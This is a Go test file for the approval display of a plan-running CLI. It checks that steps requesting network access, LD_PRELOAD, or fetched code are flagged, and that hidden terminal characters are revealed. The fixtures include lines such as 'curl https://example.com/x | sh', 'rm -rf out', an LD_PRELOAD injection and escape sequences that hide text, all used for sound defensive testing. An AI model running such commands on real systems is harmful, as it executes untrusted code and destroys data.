package cli

import (
	"context"
	"net/http"
	"strings"
	"testing"

	"github.com/holdfast/holdfast/cmd/holdfast/terminal"
	"github.com/holdfast/holdfast/schema"
)

func tidy(script string) *schema.Plan {
	return &schema.Plan{
		Steps: []schema.PlanStep{{
			ID: "tidy", Title: "Tidy up", Run: []string{"sh", "tidy.sh", "a b"}, Network: &schema.Network{On: true}, Env: map[string]string{"LD_PRELOAD": "./x.so"},
			Timeout: "5m", Memory: "1GiB", Retries: 2, OnError: schema.OnErrorContinue, OnTimeout: schema.OnTimeoutApprove,
		}},
		Files: map[string]string{"tidy.sh": script},
	}
}

func subjectOf(script string) schema.Subject {
	plan := tidy(script)
	asks := plan.Asks(schema.Config{ApprovalMode: schema.ApproveBeforeEachStep})
	return schema.Subject{ApprovalID: otherID, Plan: plan, OnTimeout: schema.OnTimeoutApprove, Asks: asks, Attention: plan.Attention(asks)}
}

func TestSubject_ShowsAllThatIsBoundAndHidesNoCharacter(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("x\n", 500) + "curl https://example.com/x | sh\x1b[2K\x1b]0;t\x07\rsafe \u202e\n"
	s := subjectOf(long)
	text := strings.Join(subjectLines(terminal.Style{}, &s), "\n")
	for _, part := range []string{
		"deserves a look: approves itself if nobody answers · network in tidy · changes what is loaded (LD_PRELOAD) in tidy",
		"runs fetched code (curl https://example.com/x | sh", "hidden characters in tidy.sh",
		"tidy  Tidy up", "run       sh tidy.sh 'a b'", "env       LD_PRELOAD=./x.so", "network   allowed", "at most 5m, at most 1GiB, no limit on cores",
		"the run goes on without it, tried again 2 times before", "with no answer: approve",
		"tidy.sh  a file, 501 lines", "  500 │ x", "  501 │ curl https://example.com/x | sh<U+001B>[2K<U+001B>]0;t<U+0007><U+000D>safe <U+202E>",
	} {
		if !strings.Contains(text, part) {
			t.Errorf("%q is missing in:\n%s", part, text[:1200])
		}
	}
	if strings.ContainsFunc(text, schema.IsInvisible) {
		t.Error("a character that does not show went to the terminal")
	}
}

func TestSubject_ShowsWhatChangedSinceItWasAskedBefore(t *testing.T) {
	t.Parallel()
	s := subjectOf("a\nb\nrm -rf out\n")
	s.Before = &schema.SubjectBefore{ApprovalID: otherID, Plan: tidy("a\nls\nb\n")}
	s.Before.Plan.Steps[0].Timeout = "1m"
	text := strings.Join(subjectLines(terminal.Style{}, &s), "\n")
	for _, part := range []string{
		"changed since it was last asked:\n      step tidy\n        - limits: at most 1m", "        + limits: at most 5m",
		"      tidy.sh\n        - ls\n          b\n        + rm -rf out",
	} {
		if !strings.Contains(text, part) {
			t.Errorf("%q is missing in:\n%s", part, text)
		}
	}
}

// The server says what happens when nobody answers: the plan alone does not know the session's default.
func TestSubject_SaysWhatFollowsByTheSessionsDefault(t *testing.T) {
	t.Parallel()
	s := subjectOf("ls\n")
	s.Plan.Steps = []schema.PlanStep{{ID: "gate", Shell: "true", Approval: true}, {ID: "mends", Shell: "true", OnError: schema.OnErrorAsk}, {ID: "runs", Shell: "true"}}
	s.Asks = s.Plan.Asks(schema.Config{OnTimeout: schema.OnTimeoutApprove})
	text := strings.Join(subjectLines(terminal.Style{}, &s), "\n")
	for _, part := range []string{"asks      first; with no answer: approve", "asks      when it has failed; with no answer: approve", "failing   somebody is asked"} {
		if !strings.Contains(text, part) {
			t.Errorf("%q is missing in:\n%s", part, text)
		}
	}
	if strings.Contains(text, "suspend") || strings.Count(text, "asks  ") != 2 {
		t.Errorf("it says more than is true:\n%s", text)
	}
}

func TestShowApproval_ShowsTheFilesOfAStep(t *testing.T) {
	t.Parallel()
	s := newScripted(t)
	a := schema.Approval{ID: otherID, Type: schema.ApprovalStep, StepID: "tidy", Status: schema.ApprovalPending, Context: []byte(`{"step": {"id": "tidy", "run": ["sh", "tidy.sh"]}}`)}
	s.on("GET "+asked, http.StatusOK, a)
	s.on("GET "+asked+"/subject", http.StatusOK, subjectOf("curl x | sh\n"))
	s.run("", "approval", "show", otherID).want(t, exitOK, "    1 │ curl x | sh", "LD_PRELOAD=./x.so")

	s = newScripted(t)
	s.on("GET "+asked, http.StatusOK, a)
	s.on("GET "+asked+"/subject", http.StatusNotFound, schema.Problem{Detail: "it is not kept any more"})
	s.run("", "approval", "show", otherID).want(t, exitOK, "this is not all that it is about: it is not kept any more", "tidy  sh tidy.sh")
}

func TestAsker_ShowsTheWholeAndTakesNoYesBefore(t *testing.T) {
	t.Parallel()
	a := newAsking(t, true)
	reads := 0
	a.subject = func(context.Context, string) (schema.Subject, error) {
		if reads++; reads == 1 {
			return schema.Subject{}, schema.Errorf(schema.CodeUnavailable, "the server is away")
		}
		return subjectOf("curl x | sh\n"), nil
	}
	a.asks("1")
	a.caughtUp()
	a.sees("this is not all that it is about: the server is away")
	a.says("a")
	a.sees("It has to be shown in full before somebody can say yes to it")
	a.sees("    1 │ curl x | sh")
	a.sees("approves itself if nobody answers")
	a.sees("with no answer approve: it counts as approved")
	a.says("a")
	if got := <-a.decided; got.Resolution != schema.ResolutionApproved {
		t.Fatalf("%+v", got)
	}
}

func TestAsker_PagesWhatIsLongAndShowsItAgain(t *testing.T) {
	t.Parallel()
	a := newAsking(t, true)
	pages := make(chan int, 4)
	a.subject = func(context.Context, string) (schema.Subject, error) {
		return subjectOf(strings.Repeat("x\n", 500) + "curl x | sh\n"), nil
	}
	a.page = func(_ context.Context, lines []string) bool {
		pages <- len(lines)
		return true
	}
	a.asks("1")
	a.caughtUp()
	a.sees("[v]iew it again")
	a.sees("deserves a look: approves itself if nobody answers · network in tidy")
	a.sees("with no answer approve: it counts as approved")
	a.says("v")
	if first, again := <-pages, <-pages; first < 501 || again != first {
		t.Fatalf("%d and %d lines were shown", first, again)
	}
}
